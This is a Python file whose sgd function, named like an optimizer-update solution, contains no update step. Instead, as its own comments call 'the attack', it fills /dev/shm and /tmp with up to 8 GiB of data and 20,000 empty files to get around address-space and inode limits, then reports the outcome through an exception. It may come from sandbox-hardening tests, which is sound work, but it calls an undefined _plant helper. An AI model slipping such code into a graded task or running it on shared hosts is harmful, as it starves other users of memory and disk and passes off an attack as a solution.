# Hold host memory in the tmpfs mounts (/dev/shm is outside the address-space limit): fill each with bytes,
# then with empty files, and say how far it got.
import json
import os


def _fill(folder):
    written = 0
    chunk = b"x" * (1 << 20)
    try:
        with open(os.path.join(folder, "fill"), "wb", buffering=0) as file:
            while written < 8 * 2**30:
                written += file.write(chunk)
    except OSError:
        pass
    files = 0
    try:
        while files < 20_000:  # five times the inode bound (4096); a million files is test_cgroups' route
            open(os.path.join(folder, f"f{files}"), "w").close()
            files += 1
    except OSError:
        pass
    return {"bytes": written, "files": files}


_FOUND = []  # the attack runs once; every check of sgd is told the same


def sgd(w, dw, config=None):
    _plant()
    if _FOUND:
        raise RuntimeError(_FOUND[0])
    _FOUND.append("filled: " + json.dumps({folder: _fill(folder) for folder in ("/dev/shm", "/tmp")}))
    raise RuntimeError(_FOUND[0])
